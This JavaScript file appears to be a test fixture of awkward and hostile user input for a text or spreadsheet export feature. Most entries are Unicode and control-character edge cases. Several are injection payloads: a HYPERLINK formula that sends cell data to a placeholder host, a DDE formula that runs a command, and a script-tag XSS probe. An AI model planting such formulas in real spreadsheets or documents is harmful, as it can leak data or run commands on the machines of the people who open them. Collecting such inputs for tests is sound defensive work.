// SPDX-FileCopyrightText: 2026 Xingping contributors
// SPDX-License-Identifier: Apache-2.0
// What somebody may type, paste or write into a file by hand.

export const hostile = [
  '=HYPERLINK("http://example.invalid/?"&A1,"请点这里")',
  "<script>alert(1)</script>",
  "]]><w:p/>&amp;&#x41;",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+86 025 12345678",
  "-1+1",
  "\tTab 前后\t",
  "替代\ufffd符",
  "控制\u0000字\u0007符\u001b\u000b末",
  "半个\ud800字\udc00对",
  "\u202e反向 עברית العربية\u202c",
  "第一行\n第二行\n\n第四行",
  "_x003D_1+1 _x000D_",
  "𠮷野家😀👩‍👩‍👧",
  "{cover-name|open} {x=y} %s %HOME%",
  "很长".repeat(10_000),
];

/** As it may be shown: what XML cannot say has become a hollow bar. */
export const shown = (text) =>
  text.replace(/[^\t\n\r\u{20}-\u{d7ff}\u{e000}-\u{fffc}\u{10000}-\u{10ffff}]/gu, "\u25af");
